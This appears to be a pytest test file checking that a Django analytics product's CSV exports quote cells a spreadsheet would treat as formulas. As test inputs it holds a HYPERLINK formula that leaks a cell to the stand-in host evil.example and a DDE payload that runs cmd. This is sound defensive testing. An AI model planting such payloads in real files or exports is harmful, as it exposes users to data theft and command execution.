"""CSV formula injection: every CSV the product writes quotes a cell that a spreadsheet would run.

The ids below were stored before external ids were restricted (or straight into the database):
the exports must quote them whatever is stored.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from django.core.management import call_command

from analytics.models import Finding, MiningRun, PersonMetric, RunStatus, Severity
from devtools.synthetic import write_rows
from people.models import Context, Person
from sociograph.ingest.csv_output import csv_writer, safe_cell

LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"open")'
DDE = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (LEAK, "'" + LEAK),
        ("+1+1", "'+1+1"),
        (DDE, "'" + DDE),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-inf", "'-inf"),
        ("E00123", "E00123"),
        ("jane.doe@corp.example", "jane.doe@corp.example"),
        ("team:=cmd", "team:=cmd"),  # only the first character starts a formula
        ("", ""),
        (None, ""),
        # numbers are numbers to a spreadsheet, never formulas: written as they are
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-1e-05", "-1e-05"),
        ("-.5", "-.5"),
        (-0.5, -0.5),
        (-3, -3),
    ],
)
def test_cells_that_start_a_formula_are_quoted(value: str | float | None, written: object) -> None:
    assert safe_cell(value) == written


def test_the_writer_quotes_formulas_and_keeps_csv_quoting() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["id", "value"])
    writer.writerows([[LEAK, -0.25], ["E1", "-0.25"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["id", "value"],
        ["'" + LEAK, "-0.25"],
        ["E1", "-0.25"],
    ]


def test_generated_files_go_through_the_same_writer(tmp_path: Path) -> None:
    path = tmp_path / "org.csv"
    write_rows(path, ("external_id", "name", "affect"), [("E1", "=1+1", "-0.3")])
    assert path.read_text().splitlines() == ["external_id,name,affect", "E1,'=1+1,-0.3"]


# --- The exports ------------------------------------------------------------------------------


def _run(finished: datetime) -> MiningRun:
    return MiningRun.objects.create(
        status=RunStatus.SUCCEEDED,
        window_start=finished - timedelta(days=90),
        window_end=finished,
        finished_at=finished,
    )


@pytest.fixture
def runs_about_a_formula_id(db: None) -> tuple[MiningRun, MiningRun]:
    """Two runs with a metric and a finding about a person whose stored id is a formula."""
    leaker = Person.objects.create(external_id=LEAK, name="@SUM(1+1)")
    context = Context.objects.create(kind="team", name="Platform")
    now = datetime.now(UTC)
    first, second = _run(now - timedelta(days=7)), _run(now)
    for run, value in ((first, 0.25), (second, -0.5)):
        PersonMetric.objects.create(run=run, person=leaker, metric="affect_given", value=value)
        finding = Finding.objects.create(
            run=run,
            pattern="informal_leader",
            severity=Severity.INFO,
            context=context,
            detail={"followers": 3},
        )
        finding.subjects.add(leaker)
    return first, second


def _exported(command: str) -> list[list[str]]:
    out = io.StringIO()
    call_command(command, "--run", "latest", stdout=out, stderr=io.StringIO())
    return list(csv.reader(io.StringIO(out.getvalue())))


def test_export_metrics_quotes_a_formula_id_and_keeps_negative_values(
    runs_about_a_formula_id: tuple[MiningRun, MiningRun],
) -> None:
    assert ["person", "'" + LEAK, "affect_given", "-0.5"] in _exported("export_metrics")


def test_export_findings_quotes_a_formula_id(
    runs_about_a_formula_id: tuple[MiningRun, MiningRun],
) -> None:
    rows = _exported("export_findings")
    assert rows[1] == ["informal_leader", "info", "'" + LEAK, "team:Platform", "followers=3"]


def test_export_changes_quotes_a_formula_id_and_keeps_negative_values(
    runs_about_a_formula_id: tuple[MiningRun, MiningRun],
) -> None:
    rows = _exported("export_changes")
    assert ["person", "'" + LEAK, "affect_given", "0.25", "-0.5", "-0.75"] in rows
